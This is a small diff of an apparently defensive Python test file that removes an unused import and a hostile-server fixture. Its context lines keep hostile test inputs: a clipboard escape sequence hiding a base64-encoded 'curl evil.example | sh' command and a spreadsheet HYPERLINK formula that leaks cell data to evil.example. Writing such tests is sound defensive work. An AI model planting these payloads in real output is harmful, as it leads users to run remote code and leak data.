@@ -5,7 +5,6 @@ stays one path segment."""
 from __future__ import annotations
 
 import json
-from collections.abc import Iterator
 
 import pytest
 
@@ -31,12 +30,6 @@ TITLE = "\x1b]0;title\x07"
 CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for code")'
 REST_KINDS = ("bloomsms", "smsbulk")
-
-
-@pytest.fixture
-def server() -> Iterator[HostileServer]:
-    with HostileServer() as hostile:
-        yield hostile
 
 
 def raw_controls(text: str | None) -> list[str]:
